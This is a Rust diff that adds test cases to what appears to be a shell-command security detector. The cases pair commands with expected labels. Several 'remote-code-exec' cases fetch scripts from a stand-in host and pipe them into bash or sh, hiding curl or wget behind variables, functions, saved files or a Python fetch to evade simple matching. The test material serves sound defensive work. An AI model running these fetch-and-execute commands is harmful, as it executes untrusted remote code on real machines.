@@ -524,6 +524,62 @@ fn commands(out: &mut Vec<Case>) {
             &[],
         ),
         ("pip-version", "python3 -m pip --version || true", &[]),
+        // Code from the network run, spelled so that no command line says it (a variable, a
+        // function, a file saved first, a fetch in Python): only the kernel's record of who
+        // connected out, what it wrote and what read it decides. `{standin}` is the stand-in,
+        // which serves a harmless installer under /dl/.
+        (
+            "net-wget-var",
+            "F=wget; $F -qO- http://{standin}/dl/install.sh | bash",
+            &["remote-code-exec"],
+        ),
+        (
+            "net-curl-subst-var",
+            "C=curl; /bin/bash -c \"$($C -fsSL http://{standin}/dl/install.sh)\"",
+            &["remote-code-exec"],
+        ),
+        (
+            "net-saved-run",
+            "cd {ws} && curl -fsS -o setup.sh http://{standin}/dl/setup.sh && chmod +x setup.sh && ./setup.sh",
+            &["remote-code-exec"],
+        ),
+        (
+            "net-wget-file-sh",
+            "cd {ws} && wget -q -O get.sh http://{standin}/dl/get.sh && sh get.sh",
+            &["remote-code-exec"],
+        ),
+        (
+            "net-python-fetch",
+            "python3 -c \"import urllib.request,sys; sys.stdout.write(urllib.request.urlopen('http://{standin}/dl/i.sh').read().decode())\" | sh",
+            &["remote-code-exec"],
+        ),
+        (
+            "net-shell-fn",
+            "get() { curl -fsSL \"$1\"; }; get http://{standin}/dl/x.sh | sh -s -- --yes",
+            &["remote-code-exec"],
+        ),
+        // Downloads that are not run: saved and read, or piped into a program or into an
+        // interpreter that runs code of its own.
+        (
+            "net-saved-only",
+            "cd {ws} && curl -fsS -o install.sh http://{standin}/dl/install.sh && head -2 install.sh",
+            &[],
+        ),
+        (
+            "net-json-tool",
+            "curl -fsS http://{standin}/v1/models | python3 -m json.tool",
+            &[],
+        ),
+        (
+            "net-grep",
+            "curl -fsS http://{standin}/dl/install.sh | grep -c installed",
+            &[],
+        ),
+        (
+            "net-python-reads",
+            "curl -fsS http://{standin}/v1/models | python3 -c 'import json,sys; print(len(json.load(sys.stdin)))'",
+            &[],
+        ),
     ];
     for (name, cmd, rules) in cases {
         let git = cmd.contains("git ");
